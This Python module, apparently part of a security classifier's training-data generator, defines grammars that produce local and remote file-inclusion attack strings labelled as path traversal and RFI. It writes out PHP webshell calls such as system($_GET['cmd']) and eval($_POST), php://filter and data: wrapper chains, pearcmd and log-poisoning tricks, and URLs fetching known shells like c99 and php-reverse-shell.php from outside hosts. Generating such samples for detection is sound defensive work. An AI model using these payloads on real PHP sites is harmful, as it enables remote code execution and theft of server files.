"""Inclusion of files: PHP wrappers, ``data:`` code, files of other hosts."""

from __future__ import annotations

from base64 import b64encode
from random import Random

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS
from securitai.train.corpora.kinds import COOKIE, HEADER, NAME, VALUE, AttackKind
from securitai.verdict import Category

_CODE = Grammar(
    r"""
code:
  <?php ‹phpcode›;?>
  <?php ‹phpcode›; echo '‹az›'; ?>
  <?=‹phpcode›?>
  <?php @‹phpcode›;
phpcode = phpinfo()¦system('id')¦system($_GET['cmd'])¦eval($_POST['c'])¦passthru($_GET[1])¦shell_exec('whoami')¦echo md5('x')¦file_get_contents('/etc/passwd')¦assert($_REQUEST['a'])
""",
    PARTS,
)
_PHP = _CODE.maker("code")


def base64_php(rng: Random) -> str:
    """A line of PHP in base64, as ``data:`` wrappers carry it."""
    return b64encode(_PHP(rng).encode()).decode()


_G = Grammar(
    r"""
filter = convert.base64-encode¦convert.base64-decode¦string.rot13¦read=convert.base64-encode¦string.toupper¦zlib.deflate¦convert.iconv.utf-8.utf-16¦convert.iconv.UTF8.CSISO2022KR¦convert.iconv.IBM273.IT¦convert.quoted-printable-encode¦string.strip_tags¦zlib.inflate¦bzip2.compress¦dechunk¦convert.iconv.L1.UCS-4LE¦write=string.rot13¦convert.iconv.UTF-16LE.UTF-8¦convert.iconv.UCS2.UTF8
chain:
  6×‹filter›
  ‹filter›|‹filter›
  ‹filter›|‹filter›|‹filter›
  ‹filter›/‹filter›
  ‹filter›|‹filter›|‹filter›|‹filter›|‹filter›|‹filter›|‹filter›
wrapped:
  8×php://filter/‹chain›/resource=‹res›
  php://filter/resource=‹res›
  pHp://FilTer/‹chain›/resource=‹res›
  php://filter//////////‹chain›/resource=‹res›
  3×php://input
  php://stdin
  php://fd/‹#0-9›
  php://memory
  2×expect://‹ucmd›
  2×data://text/plain,<?php ‹phpcall›;?>
  2×data://text/plain;base64,‹b64php›
  data:text/plain,<?php ‹phpcall› ?>
  data:application/x-httpd-php;base64,‹b64php›
  data:;base64,‹b64php›
  data://image/jpeg;base64,‹b64php›
  zip://‹az›.‹jpg¦zip¦png›#‹az›.php
  zip://‹az›.jpg%23‹az›
  phar://‹az›.‹jpg¦phar¦png¦gif›/‹az›.php
  phar:///var/www/html/uploads/‹rnd›.‹jpg¦png›
  compress.zlib://‹u_file›
  compress.bzip2://‹u_file›
  rar://‹az›.rar#‹az›.txt
  glob:///‹az›/*
  ogg://‹az›
  ssh2.exec://‹user›:‹rnd›@‹host›/‹ucmd0›
  dict://‹host›:‹port›/
  ftp://‹host›/‹az›.php
  ../../../../usr/local/lib/php/pearcmd.php&+config-create+/&/<?=‹phpcall›?>+/tmp/‹rnd›.php
  +config-create+/&lang=../../../../../../../../usr/local/lib/php/pearcmd&/<?=‹phpcall›?>+/tmp/‹rnd›.php
  /var/log/apache2/access.log&cmd=‹ucmd0›
res:
  index.php
  index
  config.php
  ‹u_file›
  ‹az›.php
  ../config
  ../../‹az›.php
  php://temp
  data://,‹b64›
  http://‹host›/‹az›
phpcall = phpinfo()¦system('id')¦system($_GET['cmd'])¦eval($_POST[1])¦echo 1¦passthru('ls')¦echo md5(1)¦shell_exec('id')¦system($_REQUEST[0])
remote:
  8×http://‹hostport›/‹shellfile›‹rafter›
  3×https://‹hostport›/‹shellfile›‹rafter›
  2×ftp://‹ftpuser›‹host›/‹shellfile›‹rafter›
  //‹host›/‹shellfile›‹rafter›
  \\‹host›\‹az›\‹az›.php
  hTTp://‹host›/‹shellfile›
  http:%2f%2f‹host›%2f‹shellfile›
  http%3A%2F%2F‹host›%2F‹shellfile›‹rafter›
  hxxp://‹host›/‹shellfile›‹rafter›
  http://‹ip›/‹az›.‹txt¦php¦inc¦jpg›?
  http://‹site›/‹az›/‹az›.txt??
  http://‹host›/?
  http://‹hostport›/‹rnd›??
  http:// ‹host›/‹shellfile›
  http://www.‹site›/‹az›.gif?&cmd=‹ucmd0›
  http://‹ip›:8080/‹rnd›?
  http://pastebin.com/raw/‹rnd›
  http://raw.githubusercontent.com/‹az›/‹az›/master/‹az›.php
  XXpathXX?
  ftp://‹ip›/‹az›.‹php¦txt›
  sftp://‹host›/‹az›.php
  httphttp://://‹host›/‹shellfile›
  http://‹host›#.‹site›/‹shellfile›
ftpuser:
  3×‹e›
  ‹az›:‹rnd›@
  anonymous:anonymous@
shellfile = c99.txt¦r57.txt¦shell.txt¦cmd.txt¦c99.php¦shell.php¦evil.txt¦evilcode¦id.txt¦test.txt¦x.txt¦1.txt¦rfi.txt¦cmd.php¦safe.txt¦backdoor.php¦b374k.txt¦wso.txt¦php.txt¦a.txt¦idpitbull.txt¦spread.txt¦load.txt¦sh.inc¦info.php¦phpinfo.txt¦bot.txt¦mic22.txt¦injector.txt¦pwn.php¦p0wn.txt¦exploit.txt¦fx29id1.txt¦images/stories/id.txt¦alpha.txt¦r0x.txt¦simple-backdoor.php¦cmd.gif¦php-reverse-shell.php
rafter:
  5×‹e›
  4×?
  ??
  %00
  ‹nul›
  ?cmd=‹ucmd0›
  ?&cmd=‹ucmd0›
  %3F
  #
  ?‹az›=
  .php%00
""",
    PARTS,
    {"b64php": base64_php},
)
KINDS = (
    AttackKind(
        "traversal.wrapper",
        Category.PATH_TRAVERSAL,
        _G.maker("wrapped"),
        2.5,
        (VALUE, COOKIE, HEADER, NAME),
    ),
    AttackKind("rfi.url", Category.RFI, _G.maker("remote"), 4.0, (VALUE, COOKIE, HEADER)),
)
